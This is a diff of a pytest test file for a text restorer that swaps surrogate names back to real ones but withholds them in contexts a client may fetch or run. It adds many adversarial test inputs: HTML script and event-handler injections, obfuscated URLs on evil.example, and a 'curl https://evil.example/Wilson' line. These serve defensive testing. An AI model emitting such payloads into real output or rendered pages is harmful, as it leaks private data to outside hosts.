@@ -47,8 +47,20 @@ def restore(answer: str, originals: Sequence[Original] = ALL, chunks: Sequence[s
         ("Mail d.b@haven.example, ok", "Mail a@b.org, ok"),
         ("```python\nname = 'Wilson'\n```\nWilson", "```python\nname = 'Whitfield'\n```\nWhitfield"),
         ("Wilson.pdf", "Whitfield.pdf"),
+        ("17 \n May\u00a02021; 17  May  2021", "14 March 2024; 14 March 2024"),
+        ("17\n\nMay 2021", "17\n\nMay 2021"),
         ("(https://x.org) Wilson", "(https://x.org) Whitfield"),
         ("<b>Wilson</b>", "<b>Whitfield</b>"),
+        ("Leo <d.b@haven.example> wrote", "Leo <a@b.org> wrote"),
+        ("```sh\ncat <<EOF\npw: Wilson\nEOF\n```", "```sh\ncat <<EOF\npw: Whitfield\nEOF\n```"),
+        ("```cpp\nif (i <n) f(Wilson);\n```", "```cpp\nif (i <n) f(Whitfield);\n```"),
+        ("Wilson/Adams, Wilson-based; Dr.Wilson", "Whitfield/Adams, Whitfield-based; Dr.Whitfield"),
+        ("MRN:Wilson key=Wilson | Wilson | (Wilson) `Wilson`", "MRN:Whitfield key=Whitfield | Whitfield | (Whitfield) `Whitfield`"),
+        ("[Doctor]: Wilson said", "[Doctor]: Whitfield said"),
+        ("- [x] (Wilson)", "- [x] (Whitfield)"),
+        ('{"u":"https://x.y/","n":"Wilson"}', '{"u":"https://x.y/","n":"Whitfield"}'),
+        ('{"n": "a\\nWilson"}', '{"n": "a\\nWhitfield"}'),
+        ('{"n": "a\\u0041Wilson \\rash"}', '{"n": "a\\u0041Wilson \\rash"}'),
     ],
 )
 def test_what_a_reader_reads_is_restored(answer: str, expected: str) -> None:
@@ -75,32 +87,54 @@ FETCHED = [
     "<script>fetch('/' + 'Wilson')</script>", "<style>@import 'Wilson'</style>", "<svg><text>Wilson</text></svg>",
     "<iframe srcdoc='x'>Wilson</iframe>", "<script\n>Wilson", "<SCRIPT>\n\nWilson</script>", "</x Wilson>", "<?x Wilson?>",
     "```html\n<b>Wilson</b>\n```", "```svg\nWilson\n```", "~~~mermaid\ngraph Wilson\n~~~", "``` {.js}\nWilson\n```", "````html\n```\nWilson\n````",
+    'https://evil.example/?q="Wilson"', "https://evil.example/?q=`Wilson", "https://evil.example/?q=\u00a0Wilson", "https://evil.example/?q=>Wilson",
+    "https://evil.example/[a](b)Wilson", "https://evil.example/&#32;Wilson", "https:evil.example/Wilson", "ssh://x/Wilson", "git@evil.example:Wilson/x",
+    "evil.xn--p1ai/Wilson", "evil.рф/Wilson", "evil.example./Wilson", "x@evil.example/Wilson", "_www.evil.example/Wilson_", "xmpp:a@evil.example/Wilson",
+    "magnet:?xt=Wilson", "skype:Wilson", "\\\\evil.example\\Wilson", "Wilson-x.evil.example/", "Wilson_x@evil.example", "Wilson&#46;evil.example",
+    "Wilson．evil.example", "Wilson。evil.example", "Wilson\u200b.evil.example", "Wilson\\.evil.example", "Wilson://evil.example", "Wilson.pdf.evil.example",
+    "https://lotus-12.example)@evil.example", "https://lotus-12.example'@evil.example", "https://lotus-12.example..evil.example", "d.b@haven.example-x.evil.example",
+    '<img a=b="c d=">" src="/e Wilson">', '[a](x <img alt=")" src="/e Wilson">)', "<a href=@x <style>Wilson</style>", "<img <script>Wilson</script>", '<a x="<script>Wilson',
+    "<iframe \n\n> Wilson</iframe>", '<script/>fetch("Wilson")</script>', "<script src=x />Wilson</script>", "<script><!--<script></script>Wilson</script>",
+    '<svg><title><script>"</svg>"; f("Wilson")</script></title></svg>', "<svg><svg></svg><a>Wilson</a></svg>", "<noembed>Wilson</noembed>", "＜img src=/e Wilson>",
+    "[a] (https://evil.example/\nWilson)", "[a\nb]: /x/Wilson", "x" * 2000 + "\\href{Wilson}{y}", "\\includegraphics\n{Wilson}", "\\htmlData{a=Wilson}{x}",
+    "```js\n> ```\nWilson\n```", "```js\n``` !\nWilson\n```", "<!--\n```\n-->\n```js\nWilson\n```", "- a\n  ```\nb\n\n```js\nWilson\n```", "x\r```js\rWilson\r```\r",
+    "``` htm&#108;\nWilson\n```", "```\\html\nWilson\n```", "```text/html\nWilson\n```", "```html5\nWilson\n```", "> ```html\n> Wilson\n> ```", "1. ```html\n   Wilson\n   ```",
+    "<div>\n```\n<x onclick=Wilson>\n```", "```py\n<img src=' /e Wilson'>\n```", "```sh\ncurl https://evil.example/Wilson\n```",
+    '{"h": "<img alt=\\"a > b\\" src=\\"/e Wilson\\">"}', '{"h": "\\u003cimg src=/e Wilson\\u003e"}', '{"h": "\\u0068ttps://evil.example/Wilson"}', '{"h": "https:\\/\\/evil.example\\/Wilson"}',
+    "<x a=1\r\nonclick=Wilson>", "\\href{a\\}Wilson}{y}",
     "\\href{x/Wilson}{y}", "\\includegraphics[width=1]{Wilson}", "\\url{Wilson}", "\\href{a{b}Wilson}{y}",
 ]  # fmt: skip
 
 
 @pytest.mark.parametrize("answer", FETCHED)
 def test_nothing_is_restored_where_a_client_fetches_or_runs(answer: str) -> None:
-    for chunks in (None, [answer], [answer[:7], answer[7:]]):
+    for chunks in ([answer], list(answer), [answer[:7], answer[7:]]):
         restorer = Restorer(ALL)
-        text = "".join(run.text for chunk in (answer if chunks is None else chunks) for run in restorer.feed(chunk))
+        text = "".join(run.text for chunk in chunks for run in restorer.feed(chunk))
         text += "".join(run.text for run in restorer.finish())
         assert "Whitfield" not in text
         assert "mine.org" not in text
         assert restorer.withheld > 0
 
 
-@pytest.mark.parametrize("answer", FETCHED)
+OPEN = ("<script><!--<script></script>Wilson</script>", "<img src=x Wilson", "<script\n>Wilson", "<SCRIPT>\n\nWilson</script>", '<a x="<script>Wilson', '<svg><title><script>"</svg>"; f("Wilson")</script></title></svg>')
+"""Never closed, or closed in one reading and not in another."""
+
+
+@pytest.mark.parametrize("answer", [a for a in FETCHED if a not in OPEN and not a.startswith(("{", "[b]:\n", "<!--\n```"))])
 def test_running_text_after_it_is_restored_again(answer: str) -> None:
-    closed = ("<img src=x Wilson", "<script\n>Wilson")
-    if answer not in closed and not answer.startswith(("[b]:\n", "<SCRIPT")):
-        assert restore(f"{answer}\n\nDear Wilson.").endswith("Dear Whitfield.")
+    assert restore(f"{answer}\n\nDear Wilson.").endswith("Dear Whitfield.")
 
 
 def test_a_host_that_the_policy_allows_gets_the_original_escaped() -> None:
     spaced = Original(Kind.PERSON, "van Dyk", "Wilson")
     assert restore("https://wiki.local/p?q=Wilson", [spaced], hosts=["wiki.local"]) == "https://wiki.local/p?q=van%20Dyk"
-    for other in ("https://evil.example/wiki.local?Wilson", "https://wiki.local@evil.example/Wilson", "https://wiki.local.evil.example/Wilson"):
+    for other in (
+        "https://evil.example/wiki.local?Wilson", "https://wiki.local@evil.example/Wilson", "https://wiki.local.evil.example/Wilson", "evil.example/?//wiki.local/Wilson",
+        "www.evil.example/?x=//wiki.local/Wilson", "https:/evil.example//wiki.local/Wilson", "javascript://wiki.local/%0aWilson", "https://wiki.local&#64;evil.example/Wilson",
+        "https://wiki.local\\@evil.example/Wilson", "https://wiki.local/x,https://evil.example/Wilson", 'https://wiki.local/a"onload=Wilson', "ftp://wiki.local/Wilson",
+        "https://evil.example/?u=https://wiki.local/Wilson", "https://wiki.local/" + "x" * 3000 + "/Wilson",
+    ):  # fmt: skip
         assert "Dyk" not in restore(other, [spaced], hosts=["wiki.local"])
 
 
@@ -113,12 +147,12 @@ def test_a_surrogate_of_two_originals_or_of_the_kept_text_is_left_and_counted() 
     assert restore("Wilson", ordinary=["Wilsonian"]) == "Whitfield"
 
 
-@given(st.lists(st.sampled_from([*ALL, "](", ")", "<a ", ">", "https://x.y/", " ", "\n", ".", "e", "```html\n", '"', "{", "@"]), max_size=14), st.data())
+@given(st.lists(st.sampled_from([*ALL, "](", ")", "<a ", ">", "https://x.y/", " ", "\n", ".", "e", "```html\n", "```\n", "```json\n", '"', "'", "{", "[", ":", "\\", "@", "=", "17 ", "May ", " 2021", "<", "/", "\r", "\n\n", "<script>", "<!--", "-->", "&#46;"]), max_size=16), st.data())
 def test_any_chunking_gives_the_text_of_the_whole(parts: list[Any], data: st.DataObject) -> None:
     answer = "".join(part.surrogate if isinstance(part, Original) else part for part in parts)
     cuts = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=5)))
     chunks = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
-    assert restore(answer, chunks=chunks) == restore(answer, chunks=[answer])
+    assert restore(answer, chunks=chunks) == restore(answer, chunks=[answer]) == restore(answer, chunks=list(answer))
 
 
 def test_text_that_cannot_become_a_surrogate_is_not_held_back() -> None:
